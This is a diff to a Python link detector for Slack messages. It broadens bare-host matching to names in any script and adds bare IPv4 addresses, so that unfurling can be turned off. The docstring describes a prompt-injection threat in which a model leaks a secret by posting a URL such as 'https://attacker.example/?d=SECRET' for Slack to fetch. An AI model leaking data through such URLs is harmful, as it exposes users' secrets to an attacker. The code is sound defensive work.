@@ -3,8 +3,9 @@
 A posted URL that Slack unfurls is fetched by Slack's servers, so a prompt-injected model
 can leak a secret by posting `https://attacker.example/?d=SECRET`. Links are found in
 every form Slack reads them: `<url|label>` and `<url>`, bare URLs, bare host names Slack
-links on its own (`attacker.example/x`), markdown-style `[label](url)`, and any string
-anywhere in Block Kit blocks (texts, `url` and `image_url` fields). Finding too much is
+links on its own (`attacker.example/x`, in any script; bare IPv4 addresses too),
+markdown-style `[label](url)`, and any string anywhere in Block Kit blocks (texts, `url`
+and `image_url` fields). Finding too much is
 safe (unfurling stays off); missing one is not, so anything link-like counts.
 
 Mentions that notify many people: `<!channel>`, `<!here>`, `<!everyone>`, user groups
@@ -23,10 +24,12 @@ from urllib.parse import urlsplit
 _ANGLE = re.compile(r"<([^<>|\s]+)(?:\|[^<>]*)?>")
 _MARKDOWN = re.compile(r"\]\(\s*([^()\s]+)\s*\)")
 _SCHEME_URL = re.compile(r"\b[a-z][a-z0-9+.-]{1,20}://[^\s<>|\"'`]+", re.IGNORECASE)
+# Labels of any script (an internationalised name counts too), then a top-level label of letters or xn--.
 _BARE_HOST = re.compile(
-    r"(?<![\w@.-])(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+(?:[a-z]{2,63}|xn--[a-z0-9-]{2,59})(?::\d+)?(?:[/?#][^\s<>|]*)?",
+    r"(?<![\w@.-])(?:[^\W_](?:[\w-]{0,61}[^\W_])?\.)+(?:[^\W\d_]{2,63}|xn--[a-z0-9-]{2,59})(?::\d+)?(?:[/?#][^\s<>|]*)?",
     re.IGNORECASE,
 )
+_BARE_IP = re.compile(r"(?<![\w@.-])\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?(?:[/?#][^\s<>|]*)?")
 _SPECIAL_ANGLE = ("@", "#", "!")
 _MASS_ANGLE = re.compile(r"<!(channel|here|everyone)(?:\|[^>]*)?>|<!subteam\^([A-Z0-9]+)(?:\|[^>]*)?>")
 _MASS_PLAIN = re.compile(r"(?<![\w<!])@(channel|here|everyone)\b")
@@ -55,6 +58,7 @@ def find_links(text: str | None, blocks: Sequence[Any] | None = None) -> list[st
         found += _MARKDOWN.findall(chunk)
         found += _SCHEME_URL.findall(chunk)
         found += [m.group(0) for m in _BARE_HOST.finditer(chunk)]
+        found += [m.group(0) for m in _BARE_IP.finditer(chunk)]
     return list(dict.fromkeys(found))
 
 
